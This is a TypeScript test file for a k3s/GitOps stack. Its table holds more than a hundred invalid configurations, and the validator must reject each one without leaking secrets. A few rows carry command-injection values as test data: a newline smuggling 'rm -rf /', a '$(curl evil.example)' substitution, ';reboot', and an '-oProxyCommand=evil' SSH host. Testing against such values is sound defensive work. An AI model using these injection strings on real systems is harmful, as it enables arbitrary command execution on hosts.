/**
 * A hostile reviewer's bad configs (issue 11): each is refused before any resource is registered, with one problem
 * line that names the key path; none echoes a secret. Table-driven: a case is one row.
 */
import { strict as assert } from "assert";
import { ConfigError } from "../stacks/config/errors";
import { buildConfig } from "../stacks/config/load";
import { baseConfig, runStack } from "./mocks";

const V = "v1.36.4+k3s1";
const OWN = ["203.0.113.10/32"];

const hz = (extra: Record<string, unknown> = {}) => baseConfig({ cloud: "hetzner", k3s: { version: V }, ...extra });
const args = (extraArgs: string[], agentExtraArgs?: string[]) => hz({ k3s: { version: V, extraArgs, ...(agentExtraArgs ? { agentExtraArgs } : {}) } });
const agentArgs = (agentExtraArgs: string[]) => hz({ k3s: { version: V, agentExtraArgs } });
const access = (ssh: string[], api: string[] = OWN) => hz({ access: { sshAllowedCidrs: ssh, apiAllowedCidrs: api } });
const pool = (p: Record<string, unknown>) => hz({ agentPools: [{ name: "workers", count: 1, size: "cx23", ...p }] });
const serverLabels = (labels: Record<string, string>) => hz({ servers: { count: 1, size: "cx23", labels } });
const gitops = (g: Record<string, unknown>) => hz({ gitops: { engine: "flux", repoUrl: "https://github.com/example-org/k3s-gitops.git", ...g } });
const sshGitops = (g: Record<string, unknown>) => gitops({ repoUrl: "ssh://git@github.com/example-org/k3s-gitops.git", auth: { type: "ssh" }, ...g });
const dns = (d: Record<string, unknown>) => hz({ dns: { provider: "route53", domain: "example.com", ...d } });
const HOSTS = [
  { name: "k3s1", address: "192.168.86.71", privateAddress: "192.168.86.71", role: "server" },
  { name: "k3s2", address: "192.168.86.72", privateAddress: "192.168.86.72", role: "agent" },
];
const home = (e: Record<string, unknown> = {}, extra: Record<string, unknown> = {}) =>
  baseConfig({ profile: "dev", cloud: "existing", k3s: { version: V }, existing: { networkCidr: "192.168.86.0/24", hosts: HOSTS, ...e }, ...extra });
const metallb = (addresses: string[]) =>
  home({}, { platform: { certManager: { email: "ops@example.com" }, metallb: { enabled: true, addresses } } });
const doCfg = (d: Record<string, unknown> = {}, extra: Record<string, unknown> = {}) =>
  baseConfig({ cloud: "digitalocean", k3s: { version: V }, servers: { count: 1, size: "s-2vcpu-4gb", locations: ["fra1"] }, digitalocean: { region: "fra1", ...d }, ...extra });
const css = (provider: Record<string, unknown>) =>
  hz({ platform: { certManager: { email: "ops@example.com" }, externalSecrets: { enabled: true, clusterSecretStore: { name: "store", provider } } } });

interface Bad {
  readonly title: string;
  readonly config: Record<string, unknown>;
  readonly stack?: string;
  /** The key path as printed, `k3s-gitops:...`; the problem line starts with it after "  - ". */
  readonly key: string;
  /** Also in the same line. */
  readonly says?: RegExp;
  /** Text that must appear in no line (a secret). */
  readonly never?: string;
}

export const BAD: readonly Bad[] = [
  // ---- 1. World exposure in pieces ----
  { title: "SSH to two /1 halves", config: access(["0.0.0.0/1", "128.0.0.0/1"]), key: "k3s-gitops:access.sshAllowedCidrs", says: /together cover 0\.0\.0\.0\/0/ },
  { title: "API to four /2 blocks", config: access(OWN, ["0.0.0.0/2", "64.0.0.0/2", "128.0.0.0/2", "192.0.0.0/2"]), key: "k3s-gitops:access.apiAllowedCidrs", says: /whole/ },
  { title: "SSH to 2000::/3", config: access(["2000::/3"]), key: "k3s-gitops:access.sshAllowedCidrs", says: /2000::\/3/ },
  { title: "SSH to ::/0 spelled in full", config: access(["0:0:0:0:0:0:0:0/0"]), key: "k3s-gitops:access.sshAllowedCidrs[0]", says: /whole internet/ },
  { title: "API to two IPv6 /4s", config: access(OWN, ["2000::/4", "3000::/4"]), key: "k3s-gitops:access.apiAllowedCidrs", says: /2000::\/3/ },
  { title: "SSH to a public /8", config: access(["100.0.0.0/8"]), key: "k3s-gitops:access.sshAllowedCidrs[0]", says: /too broad/ },
  { title: "API to a public /12", config: access(OWN, ["198.0.0.0/12"]), key: "k3s-gitops:access.apiAllowedCidrs[0]", says: /too broad/ },
  { title: "SSH to an IPv6 /16", config: access(["2001::/16"]), key: "k3s-gitops:access.sshAllowedCidrs[0]", says: /too broad/ },
  { title: "a public Hetzner API load balancer in prod", stack: "prod", config: hz({ hetzner: { networkZone: "eu-central", apiLoadBalancer: { enabled: true, public: true } } }), key: "k3s-gitops:hetzner.apiLoadBalancer.public", says: /must be false in prod/ },
  // ---- 2. Address plan ----
  { title: "Hetzner subnet overlapping the pod range", config: hz({ hetzner: { networkZone: "eu-central", networkCidr: "10.0.0.0/8", subnetCidr: "10.42.0.0/24" } }), key: "k3s-gitops:hetzner.subnetCidr", says: /overlaps the pod range/ },
  { title: "Hetzner subnet overlapping the service range", config: hz({ hetzner: { networkZone: "eu-central", networkCidr: "10.0.0.0/8", subnetCidr: "10.43.1.0/24" } }), key: "k3s-gitops:hetzner.subnetCidr", says: /overlaps the service range/ },
  { title: "DigitalOcean VPC overlapping the pod range", config: doCfg({ vpcCidr: "10.42.0.0/20" }), key: "k3s-gitops:digitalocean.vpcCidr", says: /overlaps the pod range/ },
  { title: "existing LAN overlapping the service range", config: baseConfig({ profile: "dev", cloud: "existing", k3s: { version: V }, existing: { networkCidr: "10.43.0.0/24", hosts: [{ name: "a", address: "10.43.0.5", privateAddress: "10.43.0.5", role: "server" }] } }), key: "k3s-gitops:existing.networkCidr", says: /overlaps the service range/ },
  { title: "pod range in extraArgs overlapping the subnet", config: args(["--cluster-cidr=10.0.0.0/16"]), key: "k3s-gitops:k3s.extraArgs[0]", says: /overlaps/ },
  { title: "service range in extraArgs overlapping the pod range", config: args(["--service-cidr=10.42.128.0/17"]), key: "k3s-gitops:k3s.extraArgs[0]", says: /overlaps the pod range/ },
  { title: "IPv6 pod range", config: args(["--cluster-cidr=fd42::/56"]), key: "k3s-gitops:k3s.extraArgs[0]", says: /IPv4/ },
  { title: "cluster DNS outside the service range", config: args(["--cluster-dns=10.99.0.10"]), key: "k3s-gitops:k3s.extraArgs[0]", says: /inside the service range/ },
  { title: "IPv6 existing LAN", config: baseConfig({ profile: "dev", cloud: "existing", k3s: { version: V }, existing: { networkCidr: "fd00::/64", hosts: HOSTS } }), key: "k3s-gitops:existing.networkCidr", says: /IPv4/ },
  { title: "MetalLB range backwards", config: metallb(["192.168.86.250-192.168.86.240"]), key: "k3s-gitops:platform.metallb.addresses[0]", says: /wrong order/ },
  { title: "MetalLB range with a bad octet", config: metallb(["192.168.86.240-192.168.86.300"]), key: "k3s-gitops:platform.metallb.addresses[0]", says: /octets/ },
  { title: "MetalLB IPv6 pool", config: metallb(["fd00::/120"]), key: "k3s-gitops:platform.metallb.addresses[0]", says: /IPv4/ },
  { title: "MetalLB pool off the LAN", config: metallb(["10.9.0.0/28"]), key: "k3s-gitops:platform.metallb.addresses[0]", says: /inside existing\.networkCidr/ },
  { title: "MetalLB pool holding a host", config: metallb(["192.168.86.70-192.168.86.80"]), key: "k3s-gitops:platform.metallb.addresses[0]", says: /privateAddress/ },
  { title: "IPv6 Hetzner network", config: hz({ hetzner: { networkZone: "eu-central", networkCidr: "fd00::/48" } }), key: "k3s-gitops:hetzner.networkCidr", says: /IPv4/ },
  { title: "public DigitalOcean VPC", config: doCfg({ vpcCidr: "203.0.113.0/24" }), key: "k3s-gitops:digitalocean.vpcCidr", says: /RFC 1918/ },
  // ---- 4. Versions and HA ----
  { title: "release candidate in prod", stack: "prod", config: hz({ k3s: { version: "v1.36.4-rc1+k3s1" } }), key: "k3s-gitops:k3s.version", says: /release candidate/ },
  { title: "9 prod servers", stack: "prod", config: hz({ servers: { count: 9 } }), key: "k3s-gitops:servers.count", says: /3, 5 or 7/ },
  { title: "1 prod server", stack: "prod", config: hz({ servers: { count: 1 } }), key: "k3s-gitops:servers.count", says: /3, 5 or 7/ },
  { title: "a k3s channel", config: hz({ k3s: { version: "latest" } }), key: "k3s-gitops:k3s.version" },
  { title: "a k3s version without the k3s suffix", config: hz({ k3s: { version: "v1.36.4" } }), key: "k3s-gitops:k3s.version" },
  { title: "prod existing hosts with one server", stack: "prod", config: home({}, { profile: "prod" }), key: "k3s-gitops:existing.hosts", says: /3, 5 or 7 hosts with role server in prod/ },
  { title: "prod existing hosts with two servers", stack: "prod", config: home({ hosts: [{ ...HOSTS[0], role: "server" }, { ...HOSTS[1], role: "server" }] }, { profile: "prod" }), key: "k3s-gitops:existing.hosts", says: /is "2 servers": must hold 3, 5 or 7/ },
  { title: "prod existing hosts with nine servers", stack: "prod", config: home({ hosts: Array.from({ length: 9 }, (_, i) => ({ name: `k3s${i + 1}`, address: `192.168.86.${71 + i}`, privateAddress: `192.168.86.${71 + i}`, role: "server" })) }, { profile: "prod" }), key: "k3s-gitops:existing.hosts", says: /is "9 servers": .*3 to 7/ },
  { title: "existing hosts with two servers", config: home({ hosts: [{ ...HOSTS[0], role: "server" }, { ...HOSTS[1], role: "server" }] }), key: "k3s-gitops:existing.hosts", says: /quorum/ },
  // ---- 5. k3s extraArgs / agentExtraArgs ----
  { title: "apiserver anonymous auth", config: args(["--kube-apiserver-arg=anonymous-auth=true"]), key: "k3s-gitops:k3s.extraArgs[0]", says: /anonymous/ },
  { title: "apiserver AlwaysAllow", config: args(["--kube-apiserver-arg=authorization-mode=Node,AlwaysAllow"]), key: "k3s-gitops:k3s.extraArgs[0]", says: /AlwaysAllow/ },
  { title: "NodeRestriction disabled", config: args(["--kube-apiserver-arg=disable-admission-plugins=NodeRestriction"]), key: "k3s-gitops:k3s.extraArgs[0]", says: /NodeRestriction/ },
  { title: "kubelet anonymous auth", config: args(["--kubelet-arg=anonymous-auth=true"]), key: "k3s-gitops:k3s.extraArgs[0]", says: /anonymous/ },
  { title: "kubelet AlwaysAllow", config: agentArgs(["--kubelet-arg=authorization-mode=AlwaysAllow"]), key: "k3s-gitops:k3s.agentExtraArgs[0]", says: /AlwaysAllow/ },
  { title: "kubelet read-only port", config: args(["--kubelet-arg=read-only-port=10255"]), key: "k3s-gitops:k3s.extraArgs[0]", says: /read-only port/ },
  { title: "the API port moved", config: args(["--https-listen-port=7443"]), key: "k3s-gitops:k3s.extraArgs[0]", says: /6443/ },
  { title: "apiserver secure port moved", config: args(["--kube-apiserver-arg=secure-port=7443"]), key: "k3s-gitops:k3s.extraArgs[0]", says: /6443/ },
  { title: "the kubeconfig path moved", config: args(["--write-kubeconfig=/tmp/k.yaml"]), key: "k3s-gitops:k3s.extraArgs[0]", says: /kubeconfig/ },
  { title: "etcd disabled", config: args(["--disable-etcd"]), key: "k3s-gitops:k3s.extraArgs[0]", says: /embedded etcd/ },
  { title: "an external datastore", config: args(["--datastore-endpoint=mysql://k3s:pw@tcp(db:3306)/k3s"]), key: "k3s-gitops:k3s.extraArgs[0]", never: "pw@" },
  { title: "a server-only flag on agents", config: agentArgs(["--embedded-registry"]), key: "k3s-gitops:k3s.agentExtraArgs[0]", says: /server-only/ },
  { title: "an apiserver flag on agents", config: agentArgs(["--kube-apiserver-arg=audit-log-maxage=30"]), key: "k3s-gitops:k3s.agentExtraArgs[0]", says: /server-only/ },
  { title: "a single-valued flag twice", config: args(["--egress-selector-mode=pod", "--egress-selector-mode=cluster"]), key: "k3s-gitops:k3s.extraArgs[1]", says: /repeats --egress-selector-mode/ },
  { title: "a single-valued flag in both lists for agents", config: args(["--snapshotter=native"], ["--snapshotter=overlayfs"]), key: "k3s-gitops:k3s.agentExtraArgs[0]", says: /repeats --snapshotter/ },
  { title: "a flag missing its value", config: args(["--cluster-domain"]), key: "k3s-gitops:k3s.extraArgs[0]", says: /needs a value/ },
  { title: "a component flag missing its value", config: args(["--kubelet-arg"]), key: "k3s-gitops:k3s.extraArgs[0]", says: /needs a value/ },
  { title: "a newline in a value", config: args(["--kubelet-arg=max-pods=110\nrm -rf /"]), key: "k3s-gitops:k3s.extraArgs[0]", says: /line break/ },
  { title: "a shell substitution in a value", config: args(["--tls-san=$(curl evil.example)"]), key: "k3s-gitops:k3s.extraArgs[0]", says: /metacharacter/ },
  { title: "a semicolon in a value", config: args(["--cluster-domain=cluster.local;reboot"]), key: "k3s-gitops:k3s.extraArgs[0]", says: /metacharacter/ },
  { title: "node labels through the kubelet", config: args(["--kubelet-arg=node-labels=node-role.kubernetes.io/master=true"]), key: "k3s-gitops:k3s.extraArgs[0]", says: /node-label rules/ },
  { title: "taints through the kubelet", config: agentArgs(["--kubelet-arg=register-with-taints=a=b:NoSchedule"]), key: "k3s-gitops:k3s.agentExtraArgs[0]", says: /taint rules/ },
  { title: "an unknown flag", config: args(["--frobnicate=yes"]), key: "k3s-gitops:k3s.extraArgs[0]", says: /not a k3s flag this project supports/ },
  { title: "an S3 secret key flag", config: args(["--etcd-s3-secret-key=hunter2hunter2"]), key: "k3s-gitops:k3s.extraArgs[0]", says: /manages itself/ },
  { title: "plain-HTTP etcd snapshots", config: args(["--etcd-s3-insecure"]), key: "k3s-gitops:k3s.extraArgs[0]", says: /plain HTTP/ },
  { title: "a switch given a value", config: args(["--embedded-registry=true"]), key: "k3s-gitops:k3s.extraArgs[0]", says: /takes no value/ },
  { title: "a bad egress selector mode", config: args(["--egress-selector-mode=all"]), key: "k3s-gitops:k3s.extraArgs[0]", says: /agent, cluster, pod, disabled/ },
  { title: "a bad node-port range", config: args(["--service-node-port-range=32767-30000"]), key: "k3s-gitops:k3s.extraArgs[0]", says: /port range/ },
  { title: "a snapshot flag the k3s layer owns", config: args(["--etcd-snapshot-schedule-cron=0 * * * *"]), key: "k3s-gitops:k3s.extraArgs[0]", says: /manages itself/ },
  { title: "cluster reset from config", config: args(["--cluster-reset"]), key: "k3s-gitops:k3s.extraArgs[0]", says: /restore/ },
  { title: "the reserved token flag", config: args(["--token=abc-cluster-secret"]), key: "k3s-gitops:k3s.extraArgs[0]", says: /manages itself/, never: "abc-cluster-secret" },
  { title: "flannel over public addresses", config: args(["--flannel-external-ip"]), key: "k3s-gitops:k3s.extraArgs[0]", says: /unencrypted/ },
  // ---- 6. Kubernetes naming rules ----
  { title: "a NodeRestriction-forbidden label on servers", config: serverLabels({ "node-role.kubernetes.io/worker": "true" }), key: "k3s-gitops:servers.labels.node-role.kubernetes.io/worker", says: /NodeRestriction/ },
  { title: "a k8s.io label on a pool", config: pool({ labels: { "example.k8s.io/x": "y" } }), key: "k3s-gitops:agentPools[0].labels.example.k8s.io/x", says: /NodeRestriction/ },
  { title: "a node-restriction label", config: pool({ labels: { "node-restriction.kubernetes.io/team": "a" } }), key: "k3s-gitops:agentPools[0].labels.node-restriction.kubernetes.io/team", says: /administrators/ },
  { title: "a label name over 63 characters", config: pool({ labels: { [`example.com/${"a".repeat(64)}`]: "x" } }), key: "k3s-gitops:agentPools[0].labels", says: /63/ },
  { title: "a label prefix over 253 characters", config: pool({ labels: { [`${["a", "b", "c", "d", "e"].map((l) => l.repeat(60)).join(".")}.com/x`]: "x" } }), key: "k3s-gitops:agentPools[0].labels", says: /253/ },
  { title: "a label value over 63 characters", config: pool({ labels: { "example.com/x": "v".repeat(64) } }), key: "k3s-gitops:agentPools[0].labels.example.com/x" },
  { title: "a label key with a space", config: pool({ labels: { "bad key": "x" } }), key: "k3s-gitops:agentPools[0].labels" },
  { title: "a taint without an effect", config: pool({ taints: ["dedicated=gpu"] }), key: "k3s-gitops:agentPools[0].taints[0]" },
  { title: "a taint key over 63 characters", config: pool({ taints: [`${"k".repeat(64)}=v:NoSchedule`] }), key: "k3s-gitops:agentPools[0].taints[0]", says: /63/ },
  { title: "a forbidden label on an existing host", config: home({ hosts: [HOSTS[0], { ...HOSTS[1], labels: { "kubernetes.io/role": "worker" } }] }), key: "k3s-gitops:existing.hosts[1].labels.kubernetes.io/role", says: /NodeRestriction/ },
  { title: "an SMB Secret name with capitals", config: hz({ platform: { certManager: { email: "ops@example.com" }, storage: { localPath: { enabled: false, default: false }, hcloudCsi: { enabled: true, default: true }, smb: { enabled: true, secretName: "SMB_Creds" } } } }), key: "k3s-gitops:platform.storage.smb.secretName", says: /Kubernetes object name/ },
  { title: "a pool name with capitals", config: pool({ name: "GPU" }), key: "k3s-gitops:agentPools[0].name" },
  { title: "a host name with an underscore", config: home({ hosts: [{ ...HOSTS[0], name: "k3s_1" }, HOSTS[1]] }), key: "k3s-gitops:existing.hosts[0].name" },
  // ---- 7. Credentials in plain config ----
  { title: "an https repo URL with a token", config: gitops({ repoUrl: "https://ghp_abcdefTOKEN123@github.com/example-org/k3s-gitops.git" }), key: "k3s-gitops:gitops.repoUrl", says: /credential/, never: "ghp_abcdefTOKEN123" },
  { title: "an https repo URL with user and password", config: gitops({ repoUrl: "https://me:s3cretpass@github.com/example-org/k3s-gitops.git" }), key: "k3s-gitops:gitops.repoUrl", never: "s3cretpass" },
  { title: "an ssh repo URL with a password", config: sshGitops({ repoUrl: "ssh://git:pa55word@github.com/example-org/k3s-gitops.git" }), key: "k3s-gitops:gitops.repoUrl", never: "pa55word" },
  { title: "an inline secret key in a ClusterSecretStore", config: css({ aws: { service: "SecretsManager", region: "eu-central-1", auth: { secretAccessKey: "wJalrXUtnFEMIK7MDENG" } } }), key: "k3s-gitops:platform.externalSecrets.clusterSecretStore.provider.aws.auth.secretAccessKey", never: "wJalrXUtnFEMIK7MDENG" },
  { title: "an inline Vault token in a ClusterSecretStore", config: css({ vault: { server: "https://vault.example.com", auth: { token: "hvs.inline-token-value" } } }), key: "k3s-gitops:platform.externalSecrets.clusterSecretStore.provider.vault.auth.token", never: "hvs.inline-token-value" },
  { title: "a misspelt credential key never echoes it", config: hz({ hcloudTokn: "secret-token-value-123" }), key: "k3s-gitops:hcloudTokn", says: /did you mean `hcloudToken`\?/, never: "secret-token-value-123" },
  { title: "a misspelt nested key suggests the nearest", config: hz({ servers: { count: 1, size: "cx23", locaitons: ["fsn1"] } }), key: "k3s-gitops:servers.locaitons", says: /did you mean `locations`\?/ },
  { title: "an SMB share with a user", config: hz({ platform: { certManager: { email: "ops@example.com" }, storage: { localPath: { enabled: false, default: false }, hcloudCsi: { enabled: true, default: true }, smb: { enabled: true, source: "//u1:pw@u1.your-storagebox.de/backup" } } } }), key: "k3s-gitops:platform.storage.smb.source", never: "u1:pw" },
  // ---- 8. Git ----
  { title: "an http repo URL", config: gitops({ repoUrl: "http://github.com/example-org/k3s-gitops.git" }), key: "k3s-gitops:gitops.repoUrl" },
  { title: "an scp-like repo URL", config: gitops({ repoUrl: "git@github.com:example-org/k3s-gitops.git" }), key: "k3s-gitops:gitops.repoUrl" },
  { title: "a repo URL with whitespace", config: gitops({ repoUrl: "https://github.com/example-org/k3s gitops.git" }), key: "k3s-gitops:gitops.repoUrl" },
  { title: "an option-like ssh host", config: sshGitops({ repoUrl: "ssh://git@-oProxyCommand=evil/x.git" }), key: "k3s-gitops:gitops.repoUrl" },
  { title: "a branch with ..", config: gitops({ branch: "main..dev" }), key: "k3s-gitops:gitops.branch", says: /\.\./ },
  { title: "a branch ending in .lock", config: gitops({ branch: "release.lock" }), key: "k3s-gitops:gitops.branch", says: /\.lock/ },
  { title: "a branch starting with -", config: gitops({ branch: "-main" }), key: "k3s-gitops:gitops.branch", says: /'-'/ },
  { title: "a branch with //", config: gitops({ branch: "feature//x" }), key: "k3s-gitops:gitops.branch" },
  { title: "a path with ..", config: gitops({ path: "gitops/../secrets" }), key: "k3s-gitops:gitops.path" },
  { title: "an absolute path", config: gitops({ path: "/etc" }), key: "k3s-gitops:gitops.path" },
  { title: "knownHosts that are not known_hosts lines", config: sshGitops({ auth: { type: "ssh", knownHosts: "github.com is trusted" } }), key: "k3s-gitops:gitops.auth.knownHosts", says: /known_hosts lines/ },
  { title: "an ssh host other than github.com without knownHosts", config: sshGitops({ repoUrl: "ssh://git@gitlab.example.com/acme/k3s-gitops.git" }), key: "k3s-gitops:gitops.auth.knownHosts", says: /gitlab\.example\.com/ },
  { title: "an ssh host other than github.com without knownHosts, on Argo CD", config: sshGitops({ engine: "argocd", repoUrl: "ssh://git@git.example.org:2222/acme/k3s-gitops.git" }), key: "k3s-gitops:gitops.auth.knownHosts", says: /git\.example\.org/ },
  { title: "knownHosts with a bare host name line, on Argo CD", config: sshGitops({ engine: "argocd", auth: { type: "ssh", knownHosts: "github.com\ngithub.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl" } }), key: "k3s-gitops:gitops.auth.knownHosts", says: /line 1/ },
  { title: "an https auth type with an ssh URL", config: sshGitops({ auth: { type: "https" } }), key: "k3s-gitops:gitops.repoUrl" },
  { title: "no gitops block (no engine: the gitops-engine-bootstrapped policy's verdict)", config: Object.fromEntries(Object.entries(hz()).filter(([k]) => k !== "gitops")), key: "k3s-gitops:gitops", says: /is missing: is required: the cluster is handed over to a GitOps engine/ },
  { title: "an unknown engine", config: gitops({ engine: "fleet" }), key: "k3s-gitops:gitops.engine" },
  // The bootstrap-before-gitops policy's verdict on the stage paths, decided by the kernel's bootstrapEntriesForPath.
  { title: "a gitops.path through the CNI's name", config: gitops({ path: "gitops/clusters/cilium" }), key: "k3s-gitops:gitops.path", says: /names cilium \(cni, layer 2\)/ },
  { title: "an Argo CD gitops.path through the storage operator's name", config: gitops({ engine: "argocd", path: "gitops/longhorn/dev" }), key: "k3s-gitops:gitops.path", says: /names longhorn \(storage/ },
  { title: "a Flux gitops.path through Argo CD's name", config: gitops({ path: "gitops/argocd/dev" }), key: "k3s-gitops:gitops.path", says: /names argo-cd \(gitops-engine/ },
  { title: "a stack named after the cloud controller, on the default path", stack: "hccm", config: { ...gitops({}), profile: "dev" }, key: "k3s-gitops:gitops.path", says: /gitops\/clusters\/hccm.*the default for stack hccm/ },
  { title: "stages out of order", config: gitops({ stages: ["02-apps", "01-platform-services"] }), key: "k3s-gitops:gitops.stages[1]" },
  // ---- 9. DNS ----
  { title: "a zone id with /hostedzone/", config: dns({ hostedZoneId: "/hostedzone/Z0123456789ABCDEFGHIJ" }), key: "k3s-gitops:dns.hostedZoneId", says: /Z0123456789ABCDEFGHIJ/ },
  { title: "a lowercase zone id", config: dns({ hostedZoneId: "z0123456789" }), key: "k3s-gitops:dns.hostedZoneId" },
  { title: "a domain label over 63 characters", config: dns({ domain: `${"a".repeat(64)}.com` }), key: "k3s-gitops:dns.domain" },
  { title: "a domain over 253 characters", config: dns({ domain: `${Array.from({ length: 5 }, () => "a".repeat(60)).join(".")}.com` }), key: "k3s-gitops:dns.domain", says: /253/ },
  { title: "a private ingress address", config: dns({ ingressAddress: "192.168.1.10" }), key: "k3s-gitops:dns.ingressAddress", says: /public IPv4/ },
  { title: "a loopback ingress address", config: dns({ ingressAddress: "127.0.0.1" }), key: "k3s-gitops:dns.ingressAddress", says: /public IPv4/ },
  { title: "a wildcard domain", config: dns({ domain: "*.example.com" }), key: "k3s-gitops:dns.domain" },
  { title: "a TTL under a minute", config: dns({ ttl: 5 }), key: "k3s-gitops:dns.ttl" },
  // ---- 10. Existing hosts ----
  { title: "duplicate SSH addresses", config: home({ hosts: [HOSTS[0], { ...HOSTS[1], address: "192.168.86.71" }] }), key: "k3s-gitops:existing.hosts[1].address", says: /duplicates/ },
  { title: "an agent as apiAddress", config: home({ apiAddress: "192.168.86.72" }), key: "k3s-gitops:existing.apiAddress", says: /agent/ },
  { title: "a public LAN with no firewall", config: baseConfig({ profile: "dev", cloud: "existing", k3s: { version: V }, existing: { networkCidr: "198.51.100.0/24", hosts: [{ name: "a", address: "198.51.100.5", privateAddress: "198.51.100.5", role: "server" }] } }), key: "k3s-gitops:existing.networkCidr", says: /unencrypted/ },
  { title: "a private address off the LAN", config: home({ hosts: [{ ...HOSTS[0], privateAddress: "10.0.0.5" }, HOSTS[1]] }), key: "k3s-gitops:existing.hosts[0].privateAddress" },
  { title: "duplicate private addresses", config: home({ hosts: [HOSTS[0], { ...HOSTS[1], privateAddress: "192.168.86.71" }] }), key: "k3s-gitops:existing.hosts[1].privateAddress" },
  { title: "an SSH port of 0", config: home({ hosts: [{ ...HOSTS[0], sshPort: 0 }, HOSTS[1]] }), key: "k3s-gitops:existing.hosts[0].sshPort" },
  { title: "equal ingress NodePorts", config: home({ ingress: { httpNodePort: 30080, httpsNodePort: 30080 } }), key: "k3s-gitops:existing.ingress.httpsNodePort" },
  { title: "a NodePort outside the range", config: home({ ingress: { httpNodePort: 8080 } }), key: "k3s-gitops:existing.ingress.httpNodePort" },
  { title: "a relative Longhorn disk path", config: home({ storage: { longhornDiskPaths: ["mnt/disk"] } }), key: "k3s-gitops:existing.storage.longhornDiskPaths[0]" },
  { title: "two Longhorn disk paths (Longhorn's defaultDataPath takes one)", config: home({ storage: { longhornDiskPaths: ["/mnt/a", "/mnt/b"] } }, { platform: { certManager: { email: "ops@example.com" }, storage: { localPath: { enabled: true, default: false }, longhorn: { enabled: true, default: true } } } }), key: "k3s-gitops:existing.storage.longhornDiskPaths", says: /defaultDataPath setting takes one/ },
  { title: "a local-path directory with local-path off", config: home({ storage: { localPathDir: "/srv/local-path" } }, { platform: { certManager: { email: "ops@example.com" }, storage: { localPath: { enabled: false, default: false }, longhorn: { enabled: true, default: true } } } }), key: "k3s-gitops:existing.storage.localPathDir", says: /platform\.storage\.localPath\.enabled/ },
  { title: "a local-path directory set twice", config: home({ storage: { localPathDir: "/srv/local-path" } }, { k3s: { version: V, extraArgs: ["--default-local-storage-path=/srv/other"] } }), key: "k3s-gitops:k3s.extraArgs[0]", says: /repeats existing\.storage\.localPathDir/ },
  { title: "a relative local-path directory", config: home({ storage: { localPathDir: "srv/local-path" } }), key: "k3s-gitops:existing.storage.localPathDir", says: /absolute path/ },
  // ---- 13. Images and cloud limits ----
  { title: "a RHEL-family Hetzner image", config: hz({ hetzner: { networkZone: "eu-central", image: "rocky-9" } }), key: "k3s-gitops:hetzner.image", says: /apt/ },
  { title: "a Fedora Hetzner image", config: hz({ hetzner: { networkZone: "eu-central", image: "fedora-41" } }), key: "k3s-gitops:hetzner.image", says: /apt/ },
  { title: "a CentOS DigitalOcean image", config: doCfg({ image: "centos-stream-9-x64" }), key: "k3s-gitops:digitalocean.image", says: /apt/ },
  { title: "a retired DigitalOcean region", config: doCfg({ region: "nyc2" }), key: "k3s-gitops:digitalocean.region" },
  { title: "a DigitalOcean load balancer of 201 units (the API allows 1 to 200)", config: doCfg({ apiLoadBalancer: { enabled: true, sizeUnit: 201 } }), key: "k3s-gitops:digitalocean.apiLoadBalancer.sizeUnit" },
  { title: "a droplet in another region", config: doCfg({}, { servers: { count: 1, size: "s-2vcpu-4gb", locations: ["ams3"] } }), key: "k3s-gitops:servers.locations[0]" },
  { title: "a Hetzner subnet too small for the nodes", config: hz({ hetzner: { networkZone: "eu-central", subnetCidr: "10.0.1.0/29" }, agentPools: [{ name: "workers", count: 3, size: "cx23" }] }), key: "k3s-gitops:hetzner.subnetCidr", says: /node addresses/ },
  { title: "a legacy droplet size", config: doCfg({}, { servers: { count: 1, size: "1gb", locations: ["fra1"] } }), key: "k3s-gitops:servers.size" },
];

function problemLines(fn: () => unknown): string[] {
  try {
    fn();
  } catch (err) {
    if (err instanceof ConfigError) return err.message.split("\n");
    throw err;
  }
  return [];
}

describe("hostile bad configs (issue 11)", () => {
  it("holds at least 100 distinct bad configs", () => {
    assert.ok(BAD.length >= 100, `only ${BAD.length}`);
    assert.equal(new Set(BAD.map((c) => c.title)).size, BAD.length);
    assert.equal(new Set(BAD.map((c) => JSON.stringify([c.stack, c.config]))).size, BAD.length, "every config differs");
  });

  for (const c of BAD) {
    it(`refuses ${c.title}: names ${c.key}, registers nothing`, async () => {
      const lines = problemLines(() => buildConfig(c.config, c.stack ?? "dev"));
      assert.match(lines[0] ?? "", /^Invalid stack configuration \(\d+ problems?\):$/);
      const hit = lines.slice(1).find((l) => l.startsWith(`  - ${c.key}`) && / is |is missing/.test(l) && (!c.says || c.says.test(l)));
      assert.ok(hit, `no line for ${c.key}${c.says ? ` matching ${c.says}` : ""}:\n${lines.join("\n")}`);
      assert.ok(/^ {2}- k3s-gitops:.+ is (missing|.+): ./.test(hit!), hit);
      if (c.never) assert.ok(!lines.join("\n").includes(c.never), `echoed a secret: ${lines.join("\n")}`);
      const run = await runStack(c.config, { stack: c.stack ?? "dev" });
      assert.ok(run.error instanceof ConfigError, `expected a ConfigError, got ${run.error}`);
      assert.equal(run.resources.length, 0, `registered: ${run.resources.map((r) => r.type).join(", ")}`);
    });
  }
});
